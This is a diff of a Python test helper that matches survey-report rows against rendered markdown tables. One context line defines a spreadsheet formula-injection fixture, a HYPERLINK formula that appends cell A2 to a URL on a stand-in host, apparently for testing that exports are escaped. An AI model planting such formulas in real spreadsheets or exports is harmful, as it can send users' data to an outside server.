@@ -20,7 +20,7 @@ FORMULA = '=HYPERLINK("http://example.org/?"&A2,"Team Noord")'
 
 def _report_lines(section: InputSection, seeded: Seeded) -> list[str]:
     md = render_markdown(build_document(section, seeded.catalog))
-    return re.sub(r"\\(.)", r"\1", md).splitlines()
+    return re.sub(r"\\(.)", r"\1", md).replace("\u00a0", " ").splitlines()
 
 
 def _shown(value: float) -> str:
@@ -40,9 +40,11 @@ def _in_report(row: PublicRow, lines: list[str]) -> bool:
         figures = [str(row.count)] if row.count is not None else []
         return _line(lines, f"| {row.group} |", *figures, *pct)
     if row.part == "bijdragen":
-        label = row.answer.removesuffix(": mensen bereikt")
-        if label in ("bijdragen", "mensen bereikt"):
+        label = row.answer.removesuffix(": contacten")
+        if label == "bijdragen":
             return _line(lines, "meldden", str(row.count), *([str(row.n)] if row.n else []))
+        if label == "contacten":
+            return _line(lines, "| Totaal |", f"| {row.count} |")
         return _line(lines, f"| {label} |", str(row.count))
     if row.part == "per locatie":
         return _line(lines, f"| {row.location} |", *pct, f"| {row.n} |")
@@ -55,8 +57,9 @@ def _in_report(row: PublicRow, lines: list[str]) -> bool:
         return _line(lines, f"| {row.answer} |", *pct) and _line(
             lines, "Vorige ronde", f"(n = {row.n})"
         )
-    return _line(lines, f"| {row.answer} | {row.count} | {row.percent}% |") and _line(
-        lines, row.question, f"(n = {row.n})"
+    # '(n = 14)', or '(n = 14; meer antwoorden per persoon mogelijk)'
+    return _line(lines, f"| {row.answer} | {row.count} | {row.percent}% |") and (
+        _line(lines, row.question, f"(n = {row.n})") or _line(lines, row.question, f"(n = {row.n};")
     )
 
 
